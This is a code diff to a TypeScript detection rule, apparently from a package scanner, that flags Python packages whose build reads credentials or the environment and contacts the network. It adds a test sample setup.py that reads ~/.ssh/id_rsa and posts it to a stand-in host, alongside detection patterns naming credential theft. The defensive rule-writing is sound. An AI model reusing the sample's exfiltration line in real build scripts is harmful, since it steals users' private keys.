@@ -1,5 +1,3 @@
-import { sees, seesNear } from '../../facts/artifact-facts';
-import { builds, sightings } from '../traces';
 import type { Rule } from '../rule';
 
 export const buildCredentialTheft: Rule = {
@@ -8,13 +6,39 @@ export const buildCredentialTheft: Rule = {
   kind: 'build',
   severity: 'critical',
   verdict: 'malicious',
+  tactic: 'exfiltration',
+  capabilities: ['network', 'environment', 'credential-files'],
+  languages: ['python', 'shell'],
   summary: 'Building the package reads credentials or the whole environment, and talks to the network.',
-  judge: (facts) =>
-    sightings(
-      builds(facts),
-      'reads credentials and talks to the network when the package is built',
-      (trace) =>
-        sees(trace, 'secret-sent') ??
-        seesNear(trace, ['network'], ['credential-file', 'environment-harvest']),
-    ),
+  message: 'reads credentials and talks to the network when the package is built',
+  pattern: {
+    where: 'builds',
+    any: ['secret-sent'],
+    or: [{ any: ['credential-file', 'environment-harvest'], near: ['network'] }],
+  },
+  samples: {
+    hits: [
+      {
+        what: 'credentials and the network',
+        format: 'sdist',
+        files: {
+          'setup.py':
+            'import os, requests\nrequests.post("https://a.invalid", data=open(os.path.expanduser("~/.ssh/id_rsa")).read())\n',
+        },
+        verdict: 'malicious',
+      },
+    ],
+    ignores: [
+      {
+        what: 'a compiler named by the environment',
+        format: 'sdist',
+        files: {
+          'setup.py':
+            'import os\nfrom setuptools import setup\nos.environ.setdefault("CC", "gcc")\nsetup(name="sample")\n',
+        },
+        why: 'A variable by its name is a setting, and nothing is sent.',
+        verdict: 'clean',
+      },
+    ],
+  },
 };
